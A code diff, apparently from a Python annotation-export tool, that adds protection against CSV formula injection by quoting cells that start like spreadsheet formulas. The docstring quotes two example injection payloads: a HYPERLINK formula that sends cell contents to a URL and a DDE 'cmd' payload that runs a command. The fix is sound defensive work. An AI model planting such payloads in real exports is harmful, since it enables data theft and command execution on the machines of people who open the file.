@@ -68,6 +68,23 @@ def _json(annotations: list[Annotation], articles: dict[str, ArticleInfo], pages
     return dump_json(_records(annotations, articles, pages))
 
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+"""What a spreadsheet may read as the start of a formula (and their fullwidth forms, which some convert)."""
+
+
+def csv_cell(text: str) -> str:
+    """``text`` as a CSV cell: sanitized, and behind a ``'`` when it begins like a formula (CSV injection).
+
+    A note, a quote, an article's title or a file's name comes from other people: another account's
+    annotation, an article, a shared folder. A cell ``=HYPERLINK("http://…?"&A1, "open")`` or
+    ``@SUM(1+1)*cmd|' /C calc'!A0``, exported and opened in a spreadsheet, was run as a formula: the
+    leading ``'`` makes it text there, as OWASP advises. Tabs and
+    carriage returns, the other two such starts, never reach a cell (``sanitize`` turns them into a
+    space and a newline)."""
+    cleaned = sanitize(text)
+    return "'" + cleaned if cleaned.startswith(FORMULA_STARTS) else cleaned
+
+
 def _csv(annotations: list[Annotation], articles: dict[str, ArticleInfo], pages: Pages) -> str:
     out = io.StringIO()
     writer = csv.writer(out)
@@ -95,21 +112,21 @@ def _csv(annotations: list[Annotation], articles: dict[str, ArticleInfo], pages:
         # Ids, article ids and times come from files or imports, so they are text like any other.
         writer.writerow(
             [
-                sanitize(a.id),
-                sanitize(a.article_id),
-                sanitize(info.title) if info else "",
-                info.path if info else "",
+                csv_cell(a.id),
+                csv_cell(a.article_id),
+                csv_cell(info.title) if info else "",
+                csv_cell(info.path) if info else "",
                 a.target.start,
                 a.target.end,
                 pages.get(a.id, ""),
-                sanitize(a.target.exact),
-                sanitize(";".join(a.tags)),
-                sanitize(a.note),
-                sanitize(a.author),
-                sanitize(a.created),
-                sanitize(a.modified),
-                sanitize(a.claimed_author),
-                sanitize(a.imported_from),
+                csv_cell(a.target.exact),
+                csv_cell(";".join(a.tags)),
+                csv_cell(a.note),
+                csv_cell(a.author),
+                csv_cell(a.created),
+                csv_cell(a.modified),
+                csv_cell(a.claimed_author),
+                csv_cell(a.imported_from),
             ]
         )
     return out.getvalue()
